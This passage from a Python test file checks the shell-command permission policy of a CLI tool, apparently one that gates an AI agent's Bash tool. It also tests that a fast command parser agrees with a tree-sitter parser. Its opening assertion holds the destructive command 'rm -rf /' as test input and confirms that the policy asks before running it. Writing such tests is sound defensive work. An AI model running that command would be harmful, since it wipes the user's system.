    d = ws.evaluate(Bash(), {"command": ["rm", "-rf", "/"]})
    assert (d.behavior, d.stage) == ("ask", "shell")


def test_fast_path_for_simple_lines_agrees_with_tree_sitter() -> None:
    """Plain lines skip tree-sitter; both parsers must read them identically."""
    from norma_cli.policy.shell import _parse_simple
    from norma_cli.policy.shelltree import parse_tree

    simple = 0
    for command in [c for c, _ in CORPUS] + FAST_PATH_EXTRA:
        fast = _parse_simple(command, 0)
        if fast is None:
            continue
        simple += 1
        tree = parse_tree(command, 0)
        assert fast.commands == tree.commands, command
        assert (fast.redirects, fast.problems, fast.literal) == (
            tree.redirects,
            tree.problems,
            tree.literal,
        )
    assert simple >= 80
